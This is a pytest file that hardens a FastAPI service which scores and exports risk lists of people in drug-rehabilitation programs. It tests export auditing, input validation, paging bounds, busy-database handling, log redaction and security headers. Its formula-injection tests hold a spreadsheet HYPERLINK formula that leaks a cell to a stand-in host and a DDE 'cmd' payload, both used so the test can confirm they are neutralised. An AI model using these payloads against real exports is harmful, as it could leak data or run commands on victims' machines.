"""Issue 15 hardening, over HTTP: exports, bounds, malformed input, busy databases.

Each test names the defect of issue 15 it guards. The district of
``tests/serving/district.py`` is scored for 2025-06-01; p-06 is out of the
cohort, so a district export lists 8 persons.
"""

from __future__ import annotations

import csv
import io
import re
import warnings
from collections.abc import Iterator
from datetime import date

import pytest
import sqlalchemy as sa

from tests.serving.conftest import Scored, auth

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

EXPORT = "/api/v1/exports/risk-list.csv"


def _csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _exported(engine: sa.Engine) -> list[str]:
    with engine.connect() as conn:
        return list(
            conn.execute(
                sa.text("SELECT person_id FROM audit_log WHERE action = 'export' ORDER BY id")
            ).scalars()
        )


@pytest.fixture
def lenient(fresh: Scored) -> Iterator[TestClient]:
    """A client that answers a crash with the app's 500 instead of raising it in the test."""
    from serving.app import create_app
    from tests.serving.fakes import fake_champions

    champs = fake_champions()
    app = create_app(fresh.settings(), loader=lambda o: champs[o])
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client


# -- 1. the district export ---------------------------------------------------------------


def test_district_export_is_ranked_by_district_and_audits_what_it_delivers(api_fresh, fresh):
    h = auth(fresh.tokens, "admin")
    listed = api_fresh.get("/api/v1/risk-lists/districts/示例区?limit=100", headers=h).json()
    r = api_fresh.get(f"{EXPORT}?district=示例区", headers=h)
    assert r.status_code == 200, r.text
    rows = _csv(r.content)
    assert [row["rank"] for row in rows] == [str(i) for i in range(1, 9)]
    assert [row["person_id"] for row in rows] == [i["person_id"] for i in listed["items"]]
    assert "p-06" not in {row["person_id"] for row in rows}
    assert sorted(_exported(fresh.engine)) == sorted(row["person_id"] for row in rows)

    town = api_fresh.get(f"{EXPORT}?district=示例区&town=西镇", headers=h)
    assert town.status_code == 200
    assert [(row["rank"], row["town"]) for row in _csv(town.content)] == [
        ("1", "西镇"),
        ("2", "西镇"),
    ]

    sup = api_fresh.get(f"{EXPORT}?district=示例区", headers=auth(fresh.tokens, "sup_east"))
    assert sup.status_code == 200
    assert {row["town"] for row in _csv(sup.content)} == {"东镇"}
    # the rank is the person's rank in the district asked for (as in the district list's order)
    ranks = {row["person_id"]: row["rank"] for row in rows}
    assert [row["rank"] for row in _csv(sup.content)] == [
        ranks[row["person_id"]] for row in _csv(sup.content)
    ]
    assert len(_csv(sup.content)) == 6


def test_an_export_that_fails_audits_nobody(lenient, fresh, monkeypatch):
    import serving.exports

    def broken(*_args: object, **_kwargs: object) -> bytes:
        raise RuntimeError("rendering failed")

    monkeypatch.setattr(serving.exports, "csv_bytes", broken)
    r = lenient.get(f"{EXPORT}?district=示例区", headers=auth(fresh.tokens, "admin"))
    assert r.status_code == 500
    assert _exported(fresh.engine) == []


# -- 2. formula injection -------------------------------------------------------------------

FORMULAS = {
    "town": '=HYPERLINK("example.invalid?leak="&A1,"click")',
    "worker_id": "=cmd|' -C calc'!A0",
}
# (a person id can no longer start a formula: ids must start with a letter or digit)


def test_exported_cells_never_start_a_formula(api_fresh, fresh):
    from serving import queries
    from serving.daily.job import score_date
    from tests.factories import person
    from tests.serving import district
    from tests.serving.fakes import fake_champions

    row = person(person_id="p-10", program_start="2024-06-01", program_end="2027-05-31")
    sent = api_fresh.post(
        "/api/v1/ingest", headers=auth(fresh.tokens, "integ"), json={"persons": [row | FORMULAS]}
    )
    assert sent.status_code == 200, sent.text
    score_date(fresh.engine, date.fromisoformat(district.AS_OF), fake_champions())
    queries.forget_runs()
    r = api_fresh.get(f"{EXPORT}?district=示例区", headers=auth(fresh.tokens, "admin"))
    assert r.status_code == 200
    (mine,) = [row for row in _csv(r.content) if row["person_id"] == "p-10"]
    assert mine["town"] == "'" + FORMULAS["town"]
    assert mine["worker_id"] == "'" + FORMULAS["worker_id"]
    for line in _csv(r.content):
        for column, value in line.items():
            if column not in ("p", "change"):  # numbers; a negative change stays a number
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("东镇", "东镇"),
        ("a=1", "a=1"),
        ("", ""),
        (-0.25, -0.25),
        (3, 3),
        (None, None),
    ],
)
def test_safe_cell(value, cell):
    from serving.exports import safe_cell

    assert safe_cell(value) == cell


# -- 3. non-finite and huge numbers over the API ----------------------------------------------


def _post_json(client: TestClient, url: str, token: str, text: str):
    return client.post(
        url,
        content=text.encode(),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )


def test_api_ingest_names_non_finite_and_huge_numbers_and_keeps_good_rows(api_fresh, fresh):
    text = """{
      "persons": [
        {"person_id": "p-20", "sex": "M", "birth_year": 1990, "district": "示例区",
         "town": "东镇", "worker_id": "w-1", "program": "community_rehab",
         "program_start": "2024-06-01", "program_end": "2027-05-31",
         "primary_drug": "heroin", "prior_compulsory_detox": Infinity},
        {"person_id": "p-21", "sex": "F", "birth_year": 1e30, "district": "示例区",
         "town": "东镇", "worker_id": "w-1", "program": "community_rehab",
         "program_start": "2024-06-01", "program_end": "2027-05-31", "primary_drug": "heroin"},
        {"person_id": "p-22", "sex": "F", "birth_year": 1991, "district": "示例区",
         "town": "东镇", "worker_id": "w-1", "program": "community_rehab",
         "program_start": "2024-06-01", "program_end": "2027-05-31", "primary_drug": "heroin"}
      ],
      "events": [
        {"event_id": "e-20", "person_id": "p-22", "ts": "2025-05-01T09:00:00",
         "type": "leave_notice", "value": -Infinity},
        {"event_id": "e-21", "person_id": "p-22", "ts": "2025-05-01T09:00:00",
         "type": "leave_notice", "value": 1e308},
        {"event_id": "e-22", "person_id": "p-22", "ts": "2025-05-02T09:00:00",
         "type": "leave_notice", "value": 2}
      ]
    }"""
    r = _post_json(api_fresh, "/api/v1/ingest", fresh.tokens["integ"], text)
    assert r.status_code == 422, r.text
    body = r.json()
    got = sorted((x["file"], x["row"], x["column"], x["code"]) for x in body["rejections"])
    assert got == [
        ("events", 1, "value", "not_finite"),
        ("events", 2, "value", "out_of_range"),
        ("persons", 1, "prior_compulsory_detox", "not_finite"),
        ("persons", 2, "birth_year", "out_of_range"),
    ]
    assert (body["persons"]["stored"], body["events"]["stored"]) == (1, 1)
    with fresh.engine.connect() as conn:
        stored = conn.execute(
            sa.text("SELECT event_id, value FROM events WHERE person_id = 'p-22'")
        ).all()
    assert [tuple(s) for s in stored] == [("e-22", 2.0)]


def test_score_history_names_non_finite_numbers(api_fresh, fresh):
    text = """{
      "person": {"person_id": "p-30", "sex": "M", "birth_year": 1990, "district": "示例区",
         "town": "东镇", "worker_id": "w-1", "program": "community_rehab",
         "program_start": "2024-06-01", "program_end": "2027-05-31",
         "primary_drug": "heroin", "prior_compulsory_detox": 1e30},
      "events": [{"event_id": "e-30", "person_id": "p-30", "ts": "2025-05-01T09:00:00",
         "type": "leave_notice", "value": Infinity}],
      "as_of": "2025-06-01"
    }"""
    r = _post_json(api_fresh, "/api/v1/score/history", fresh.tokens["integ"], text)
    assert r.status_code == 422, r.text
    fields = {f["field"] for f in r.json()["error"]["fields"]}
    assert fields == {"body.person.prior_compulsory_detox", "body.events[0].value"}


# -- 4. implausible dates over the API --------------------------------------------------------


def test_api_ingest_rejects_year_one_and_far_future_dates(api_fresh, fresh):
    from tests.factories import event, person

    rows = [
        person(person_id="p-40", program_start="0001-01-01"),
        person(person_id="p-41", program_end="9999-12-31"),
        person(person_id="p-42"),
    ]
    events = [event("e-40", "2099-01-01T09:00:00", person_id="p-42")]
    r = api_fresh.post(
        "/api/v1/ingest",
        headers=auth(fresh.tokens, "integ"),
        json={"persons": rows, "events": events},
    )
    assert r.status_code == 422
    got = sorted((x["file"], x["row"], x["column"], x["code"]) for x in r.json()["rejections"])
    assert got == [
        ("events", 1, "ts", "date_out_of_range"),
        ("persons", 1, "program_start", "date_out_of_range"),
        ("persons", 2, "program_end", "date_out_of_range"),
    ]
    assert r.json()["persons"]["stored"] == 1


# -- 5. JSON shapes, text bounds, safe ids, control characters --------------------------------


def test_api_ingest_rejects_objects_overlong_text_unsafe_ids_and_control_characters(
    api_fresh, fresh
):
    from tests.factories import person

    rows = [
        person(person_id="p-50") | {"town": {"name": "东镇"}},
        person(person_id="p-51") | {"district": ["示例区"]},
        person(person_id="p-52", town="镇" * 200_000),
        person(person_id="p-53", education="x" * 1_000_000),
        person(person_id="p-5/4"),
        person(person_id="p-55\x00"),
        person(person_id="p-56", worker_id="w\x1b[31m"),
        person(person_id="p-57"),
    ]
    r = api_fresh.post(
        "/api/v1/ingest", headers=auth(fresh.tokens, "integ"), json={"persons": rows}
    )
    assert r.status_code == 422
    body = r.json()
    got = [(x["row"], x["column"], x["code"]) for x in body["rejections"]]
    assert got == [
        (1, "town", "not_scalar"),
        (2, "district", "not_scalar"),
        (3, "town", "too_long"),
        (4, "education", "too_long"),
        (5, "person_id", "bad_id"),
        (6, "person_id", "control_character"),
        (7, "worker_id", "control_character"),
    ]
    assert len(r.content) < 10_000  # nothing of the megabyte comes back
    assert body["persons"]["stored"] == 1
    with fresh.engine.connect() as conn:
        stored = set(conn.execute(sa.text("SELECT person_id FROM persons")).scalars())
    assert "p-57" in stored and not {p for p in stored if not p.startswith("p-0")} - {"p-57"}


def test_every_stored_person_is_reachable_by_its_id(api_fresh, fresh):
    from tests.factories import person

    rows = [person(person_id=p, worker_id="w-1") for p in ("a.b", "A:1", "x_y-z", "9")]
    r = api_fresh.post(
        "/api/v1/ingest", headers=auth(fresh.tokens, "integ"), json={"persons": rows}
    )
    assert r.status_code == 200, r.text
    with fresh.engine.connect() as conn:
        ids = list(conn.execute(sa.text("SELECT person_id FROM persons")).scalars())
    for pid in ids:
        got = api_fresh.get(f"/api/v1/persons/{pid}/timeline", headers=auth(fresh.tokens, "admin"))
        assert got.status_code == 200, (pid, got.text)


def test_score_history_rejects_a_nested_person_field(api_fresh, fresh):
    from tests.factories import person

    body = {"person": person(person_id="p-60") | {"town": {"a": 1}}, "as_of": "2025-06-01"}
    r = api_fresh.post("/api/v1/score/history", headers=auth(fresh.tokens, "integ"), json=body)
    assert r.status_code == 422
    assert [f["field"] for f in r.json()["error"]["fields"]] == ["body.person.town"]


# -- 6. the fuzzer's 5xx: malformed ad-hoc bodies, paging out of range, busy databases ----------


@pytest.mark.parametrize(
    "payload",
    [
        {"features": {}, "outcomes": [{}]},
        {"features": {}, "outcomes": [["relapse"]]},
        {"features": {"employed_now": 1}, "outcomes": "relapse"},
        {"features": [], "outcomes": None},
        {"features": {"employed_now": {"a": 1}}},
    ],
)
def test_malformed_ad_hoc_bodies_are_422(api, scored, payload):
    for name in ("integ", "admin"):
        r = api.post("/api/v1/score/features", headers=auth(scored.tokens, name), json=payload)
        assert r.status_code == 422, (name, r.text)
        assert r.json()["error"]["fields"]


HUGE = "99999999999999999999"


@pytest.mark.parametrize(
    ("who", "url", "field"),
    [
        ("admin", f"/api/v1/admin/audit?offset={HUGE}", "query.offset"),
        ("admin", "/api/v1/admin/audit?offset=-1", "query.offset"),
        ("admin", "/api/v1/admin/audit?limit=-1", "query.limit"),
        ("admin", f"/api/v1/runs?limit=-{HUGE}", "query.limit"),
        ("admin", "/api/v1/runs?limit=-1", "query.limit"),
        ("admin", "/api/v1/runs?limit=0", "query.limit"),
        ("admin", f"/api/v1/runs?limit={HUGE}", "query.limit"),
        ("w1", f"/api/v1/risk-lists/me?offset={HUGE}", "query.offset"),
        ("w1", f"/api/v1/risk-lists/me?offset={'9' * 5000}", "query.offset"),
        ("w1", f"/api/v1/risk-lists/me?limit={'9' * 5000}", "query.limit"),
        ("admin", f"/api/v1/risk-lists/districts/示例区?offset={HUGE}", "query.offset"),
        ("w1", f"/api/v1/exports/risk-list.csv?worker_id=w-1&offset={HUGE}", "query.offset"),
        ("w1", f"/api/v1/persons/p-01/timeline?limit={HUGE}", "query.limit"),
    ],
)
def test_paging_out_of_range_is_422_naming_the_parameter(api, scored, who, url, field):
    r = api.get(url, headers=auth(scored.tokens, who))
    assert r.status_code == 422, r.text
    assert [f["field"] for f in r.json()["error"]["fields"]] == [field]


def test_paging_at_the_bounds_answers(api, scored):
    from serving.api.schemas import OFFSET_MAX, PAGE_MAX

    h = auth(scored.tokens, "admin")
    assert api.get(f"/api/v1/admin/audit?offset={OFFSET_MAX}", headers=h).json()["items"] == []
    assert api.get(f"/api/v1/runs?limit={PAGE_MAX}", headers=h).status_code == 200
    me = api.get(f"/api/v1/risk-lists/me?offset={OFFSET_MAX}", headers=auth(scored.tokens, "w1"))
    assert me.status_code == 200 and me.json()["items"] == []


class _WriteLock:
    """Another writer holding the database's write lock (SQLite) or a table lock (PostgreSQL)."""

    def __init__(self, s: Scored) -> None:
        self.engine = sa.create_engine(s.url)
        self.conn = self.engine.connect()
        if self.engine.dialect.name == "sqlite":
            self.conn.exec_driver_sql("BEGIN IMMEDIATE")
        else:
            self.conn.exec_driver_sql(
                "LOCK TABLE audit_log, persons, events, ingest_runs IN ACCESS EXCLUSIVE MODE"
            )

    def release(self) -> None:
        self.conn.rollback()
        self.conn.close()
        self.engine.dispose()


def test_a_busy_database_is_503_with_retry_after_and_never_500(fresh):
    from serving.app import create_app
    from tests.factories import person
    from tests.serving.fakes import fake_champions

    champs = fake_champions()
    settings = fresh.settings().model_copy(update={"db_busy_seconds": 0.3})
    app = create_app(settings, loader=lambda o: champs[o])
    w1, admin, integ = (auth(fresh.tokens, n) for n in ("w1", "admin", "integ"))
    with TestClient(app, raise_server_exceptions=False) as client:
        lock = _WriteLock(fresh)
        try:
            busy = [
                client.get("/api/v1/persons/p-01", headers=w1),  # FastAPI route, audited
                client.get("/api/v1/persons/p-01/explanation", headers=w1),  # front door
                client.get("/api/v1/risk-lists/me", headers=w1),  # front door, audited list
                client.get(f"{EXPORT}?worker_id=w-1", headers=w1),
                client.post("/api/v1/ingest", headers=integ, json={"persons": [person()]}),
            ]
            for r in busy:
                assert r.status_code == 503, (r.request.url, r.status_code, r.text)
                assert r.json()["error"]["code"] == "busy"
                assert int(r.headers["Retry-After"]) > 0
            # reads of published runs that write nothing do not wait on the writer
            assert client.get("/api/v1/runs", headers=admin).status_code == 200
        finally:
            lock.release()
        assert client.get("/api/v1/persons/p-01", headers=w1).status_code == 200
        assert client.get("/api/v1/risk-lists/me", headers=w1).status_code == 200
    assert sorted(_exported(fresh.engine)) == []  # nothing was delivered, nothing audited


# -- 8. logs name no person and carry no free text ---------------------------------------------

MARK = "MARKER-7f3a"


def test_error_paths_log_no_person_id_and_no_free_text(lenient, fresh, caplog, monkeypatch):
    import logging

    from serving.api import readers
    from tests.factories import person

    caplog.set_level(logging.INFO)
    assert fresh.engine.hide_parameters  # SQLAlchemy's messages never carry bound values
    with fresh.engine.begin() as conn:  # a real database error on the actions insert
        conn.exec_driver_sql(
            "CREATE TRIGGER refuse_actions BEFORE INSERT ON actions BEGIN "
            "SELECT RAISE(ABORT, 'refused'); END"
            if fresh.engine.dialect.name == "sqlite"
            else "CREATE RULE refuse_actions AS ON INSERT TO actions DO INSTEAD SELECT 1 / 0"
        )
    w1 = auth(fresh.tokens, "w1")
    action = {"kind": "home_visit", "note": f"家访 {MARK} 电话 13800000000"}
    r = lenient.post("/api/v1/persons/p-01/actions", headers=w1, json=action)
    assert r.status_code == 500

    secret = " ".join(("p-01", MARK))  # the traceback shows this line's code, not the value

    async def broken(*_args: object, **_kwargs: object) -> bytes:
        raise KeyError(secret)

    monkeypatch.setattr(readers, "explanation", broken)
    r = lenient.get(f"/api/v1/persons/p-01/explanation?outcome=relapse&m={MARK}", headers=w1)
    assert r.status_code == 500
    monkeypatch.setattr(readers, "risk_list", broken)
    r = lenient.get("/api/v1/risk-lists/workers/w-1", headers=w1)
    assert r.status_code == 500

    rows = [person(person_id="p-70", education=f"{MARK}", sex="X")]
    r = lenient.post("/api/v1/ingest", headers=auth(fresh.tokens, "integ"), json={"persons": rows})
    assert r.status_code == 422

    # the server's records (the test client's own httpx lines show the URLs it sent)
    text = "\n".join(
        caplog.handler.format(r)
        for r in caplog.records
        if not r.name.startswith(("httpx", "httpcore"))
    )
    assert "unhandled error" in text and "Traceback" in text  # the failures are logged
    assert MARK not in text and "p-01" not in text and "13800000000" not in text
    assert "w-1" not in text.replace("w-1-", "")
    for report in (fresh.home / "reports").glob("*"):
        assert MARK not in report.read_text("utf-8"), report.name


# -- NUL and other control characters in URLs and bodies (PostgreSQL refuses NUL: was 500) ---


@pytest.mark.parametrize(
    ("url", "field"),
    [
        ("/api/v1/persons/p-01%00", "path"),
        ("/api/v1/risk-lists/workers/w-1%1B", "path"),
        ("/api/v1/risk-lists/districts/%00", "path"),
        ("/api/v1/groups?district=%E7%A4%BA%00", "query.district"),
        ("/api/v1/admin/audit?person_id=p-01%00", "query.person_id"),
        ("/people/p-01%00", "path"),
    ],
)
def test_control_characters_in_a_url_are_422(api, scored, url, field):
    r = api.get(url, headers=auth(scored.tokens, "admin"))
    assert r.status_code == 422, r.text
    assert [f["field"] for f in r.json()["error"]["fields"]] == [field]


def test_control_characters_in_an_action_are_422_but_a_line_break_is_kept(api_fresh, fresh):
    h = auth(fresh.tokens, "w1")
    url = "/api/v1/persons/p-01/actions"
    bad = api_fresh.post(url, headers=h, json={"kind": "home_visit", "note": "a\x00b"})
    assert bad.status_code == 422
    assert [f["field"] for f in bad.json()["error"]["fields"]] == ["body.note"]
    bad = api_fresh.post(url, headers=h, json={"kind": "plan_item", "plan_item": "x\x1b"})
    assert bad.status_code == 422
    ok = api_fresh.post(url, headers=h, json={"kind": "home_visit", "note": "第一行\n第二行"})
    assert ok.status_code == 201, ok.text


# -- 9. tokens: sessions are not bearer tokens; expiry positive and bounded ---------------------


def test_a_web_session_is_not_an_api_bearer_token(api_fresh, fresh):
    from serving.web.session import sign_in

    signed = sign_in(fresh.engine, "w1", fresh.tokens["w1"])
    assert signed is not None
    session, _ = signed
    assert (
        api_fresh.get("/api/v1/me", headers={"Authorization": f"Bearer {session}"}).status_code
        == 401
    )
    assert api_fresh.get("/api/v1/me", headers=auth(fresh.tokens, "w1")).status_code == 200


@pytest.mark.parametrize("days", [0, -1, 366, 10**9])
def test_token_expiry_must_be_positive_and_bounded(fresh, days):
    from serving.auth import issue_token

    with pytest.raises(ValueError, match="days"):
        issue_token(fresh.engine, "w1", days=days)


def test_a_token_without_days_expires_after_the_default(fresh):
    from datetime import datetime, timedelta

    from features.contract import local_now
    from serving.auth import TOKEN_DAYS_DEFAULT, hash_token, issue_token

    token = issue_token(fresh.engine, "w1")
    with fresh.engine.connect() as conn:
        expires = conn.execute(
            sa.text("SELECT expires_at FROM api_tokens WHERE token_hash = :h"),
            {"h": hash_token(token)},
        ).scalar_one()
    expires = expires if isinstance(expires, datetime) else datetime.fromisoformat(expires)
    assert abs(expires - (local_now() + timedelta(days=TOKEN_DAYS_DEFAULT))) < timedelta(minutes=5)


def test_cli_users_token_and_revoke_answer_bad_input_by_name(fresh, monkeypatch):
    from typer.testing import CliRunner

    from sunflower.cli import app

    monkeypatch.setenv("SUNFLOWER_HOME", str(fresh.home))
    monkeypatch.setenv("SUNFLOWER_DATABASE_URL", fresh.url)
    runner = CliRunner()
    for days in ("0", "-1", "400"):
        r = runner.invoke(app, ["users", "token", "w1", "--days", days])
        assert r.exit_code == 1 and "days" in r.output and "Traceback" not in r.output, r.output
    r = runner.invoke(app, ["users", "revoke", "nobody"])
    assert r.exit_code == 1 and "no user 'nobody'" in r.output, r.output
    assert r.exception is None or isinstance(r.exception, SystemExit)


# -- 10. no caching, no sniffing; /docs without a CDN --------------------------------------------


@pytest.mark.parametrize(
    ("who", "url"),
    [
        ("w1", "/api/v1/risk-lists/me"),  # front door
        ("w1", "/api/v1/persons/p-01"),
        ("w1", "/api/v1/persons/p-01/explanation"),  # front door
        ("w1", f"{EXPORT}?worker_id=w-1"),
        ("w1", "/api/v1/persons/p-04"),  # 404
        ("w1", "/api/v1/runs"),  # 403
        (None, "/api/v1/me"),  # 401
        ("w1", "/api/v1/risk-lists/me?limit=0"),  # 422
    ],
)
def test_api_answers_are_never_cached_or_sniffed(api, scored, who, url):
    r = api.get(url, headers=auth(scored.tokens, who) if who else {})
    assert r.headers["Cache-Control"] == "no-store", (r.status_code, dict(r.headers))
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"


def test_docs_is_a_page_of_this_server_loading_nothing_from_outside(api):
    r = api.get("/docs")
    assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store"
    assert "script-src 'self'" in r.headers["Content-Security-Policy"]
    assert "GET /api/v1/persons/{person_id}/timeline" in r.text
    assert "/api/v1/openapi.json" in r.text
    for src in re.findall(r'(?:src|href)="([^"]+)"', r.text):
        assert src.startswith(("/", "#")), src  # nothing from another origin
    assert api.get("/redoc").status_code == 404
    assert api.get("/api/v1/openapi.json").status_code == 200


# -- the malformed-input corpus over the API ----------------------------------------------------


def test_each_malformed_api_kind_is_a_422_naming_the_row(api_fresh, fresh):
    from tests.fixtures.malformed import API_KINDS

    integ = auth(fresh.tokens, "integ")
    for kind in API_KINDS:
        r = api_fresh.post(
            "/api/v1/ingest",
            content=kind.body.encode(),
            headers={**integ, "Content-Type": "application/json"},
        )
        assert r.status_code == 422, (kind.name, r.text[:300])
        lines = {(x["file"], x["row"], x["column"], x["code"]) for x in r.json()["rejections"]}
        assert lines == kind.expect, kind.name
        assert len(r.content) < 20_000, kind.name  # an overlong value is not echoed back
    with fresh.engine.connect() as conn:
        stored = set(conn.execute(sa.text("SELECT person_id FROM persons")).scalars())
    assert "p-1" in stored and not {p for p in stored if not p.startswith("p-0")} - {"p-1"}
